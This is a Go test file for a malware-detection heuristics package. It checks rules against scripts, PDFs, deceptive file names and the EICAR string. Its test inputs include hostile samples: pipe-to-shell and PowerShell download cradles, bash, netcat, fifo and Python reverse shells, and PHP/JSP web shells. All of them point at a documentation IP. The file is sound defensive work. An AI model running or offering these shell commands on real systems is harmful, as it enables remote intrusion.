package heuristics

import (
	"fmt"
	"os"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
)

func TestReadmeListsTheRules(t *testing.T) {
	readme, err := os.ReadFile("README.md")
	require.NoError(t, err)
	var documented, coded []string
	for _, line := range strings.Split(string(readme), "\n") {
		if strings.HasPrefix(line, "| `") {
			cells := strings.Split(line, "|")
			documented = append(documented, strings.Trim(cells[1], " `")+" "+strings.TrimSpace(cells[2]))
		}
	}
	for _, rule := range table {
		coded = append(coded, fmt.Sprintf("%s %d", rule.ID, rule.Weight))
	}
	require.Equal(t, coded, documented)
}

func TestScripts(t *testing.T) {
	blob := strings.Repeat("QUJDREVGR0hJSktM", 200)
	tests := map[string]struct {
		text string
		want []Rule
	}{
		"pipe to shell":        {"#!/bin/sh\ncurl -fsSL https://192.0.2.1/x | sudo bash\n", []Rule{scriptPipeToShell}},
		"PowerShell cradle":    {"IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')", []Rule{scriptPipeToShell}},
		"web request":          {"iwr http://192.0.2.1/a | iex", []Rule{scriptPipeToShell}},
		"bash reverse shell":   {"bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n", []Rule{scriptReverseShell}},
		"netcat":               {"nc 192.0.2.1 4444 -e /bin/sh\n", []Rule{scriptReverseShell}},
		"fifo":                 {"mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 192.0.2.1 1 > /tmp/f", []Rule{scriptReverseShell}},
		"Python reverse shell": {"import socket,os;s=socket.socket();s.connect(('192.0.2.1',1));os.dup2(s.fileno(),0);os.system('/bin/sh')", []Rule{scriptReverseShell}},
		"PHP decoder":          {"<?php eval(base64_decode('aGk='));", []Rule{scriptDecodeRun}},
		"JavaScript decoder":   {"eval(atob('aGk='))", []Rule{scriptDecodeRun}},
		"Python decoder":       {"exec(zlib.decompress(b'..'))", []Rule{scriptDecodeRun}},
		"shell decoder":        {"echo aGk= | base64 -d | sh", []Rule{scriptDecodeRun}},
		"blob":                 {"x = b64decode('" + blob + "')\nexec(x)", []Rule{scriptEncodedBlob}},
		"hidden":               {"powershell.exe -nop -w hidden -enc SQBFAFgA", []Rule{scriptHidden}},
		"PHP web shell":        {"<?php system($_GET['c']); ?>", []Rule{scriptWebShell}},
		"JSP web shell":        {`<% Runtime.getRuntime().exec(request.getParameter("c")); %>`, []Rule{scriptWebShell}},
		"character codes":      {strings.Repeat("chr(104).", 30), []Rule{scriptCharCodes}},
		"UTF-16":               {"\xff\xfe" + string(utf16("iwr http://192.0.2.1/a | iex")), []Rule{scriptPipeToShell}},

		"a download":      {"curl -o file https://example.com/file\n", nil},
		"a picture":       {"data:image/png;base64," + blob, nil},
		"prose":           {"Never pipe curl to sh; bash is a shell.\n", nil},
		"a decoder":       {"base64 -d < in > out\n", nil},
		"a server script": {"<?php echo htmlspecialchars($_GET['name']); ?>", nil},
	}
	for name, test := range tests {
		t.Run(name, func(t *testing.T) {
			var found findings
			inspectScript(&found, []byte(test.text), "text")
			require.Equal(t, findings(test.want), found)
		})
	}
}

func TestPDF(t *testing.T) {
	tests := map[string]struct {
		text string
		want []Rule
	}{
		"automatic script":  {"%PDF-1.7\n1 0 obj<</OpenAction 2 0 R>>\n2 0 obj<</S/JavaScript/JS(app.alert(1))>>", []Rule{pdfAutoScript}},
		"launch":            {"%PDF-1.7\n<</S /Launch /F (cmd.exe)>>", []Rule{pdfLaunch}},
		"hidden names":      {"%PDF-1.7\n<</S /L#61unch>>", []Rule{pdfLaunch, pdfHexNames}},
		"a file inside":     {"%PDF-1.7\n<</Type /EmbeddedFile>>", []Rule{pdfEmbedded}},
		"only a script":     {"%PDF-1.7\n<</S/JavaScript/JS(x)>>", nil},
		"inside a stream":   {"%PDF-1.7\n<<>>stream\n/Launch\nendstream\n", nil},
		"a longer name":     {"%PDF-1.7\n/LaunchPad /AAB", nil},
		"escapes elsewhere": {"%PDF-1.7\n/Name#20With#20Spaces", nil},
		"cut off":           {"%PDF-1.7\n/Lau", nil},
		"endless stream":    {"%PDF-1.7\n<<>>stream\n/Launch", nil},
	}
	for name, test := range tests {
		t.Run(name, func(t *testing.T) {
			var found findings
			inspectPDF(&found, []byte(test.text))
			require.Equal(t, findings(test.want), found)
		})
	}
}

func TestNames(t *testing.T) {
	tests := map[string]struct {
		name, tag string
		want      []Rule
	}{
		"double":       {"invoice.pdf.exe", "peexe", []Rule{nameDoubleExtension}},
		"with spaces":  {"invoice.PDF      .SCR", "peexe", []Rule{nameDoubleExtension}},
		"in a folder":  {`C:\files\photo.jpg.exe`, "peexe", []Rule{nameDoubleExtension}},
		"reversed":     {"photo\u202egpj.exe", "peexe", []Rule{nameBidi}},
		"disguised":    {"photo.jpg", "peexe", []Rule{nameDisguise}},
		"a program":    {"setup.exe", "peexe", nil},
		"versions":     {"tool-1.2.exe", "peexe", nil},
		"web code":     {"data.csv.js", "javascript", nil},
		"a document":   {"report.v2.pdf", "pdf", nil},
		"no name":      {"", "peexe", nil},
		"only the dot": {".", "elf", nil},
	}
	for name, test := range tests {
		t.Run(name, func(t *testing.T) {
			var found findings
			inspectName(&found, test.name, test.tag)
			require.Equal(t, findings(test.want), found)
		})
	}
}

func TestEICAR(t *testing.T) {
	test := `X5O!P%@AP[4\PZX54(P^)7CC)7}$` + `EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*`
	for text, want := range map[string]bool{
		test: true, test + "\r\n": true, test + strings.Repeat(" ", 60): true,
		test + strings.Repeat(" ", 61): false, test + "x": false, "x" + test: false, test[:67]: false, "": false,
	} {
		require.Equal(t, want, isEICAR([]byte(text)), "%q", text)
	}
}
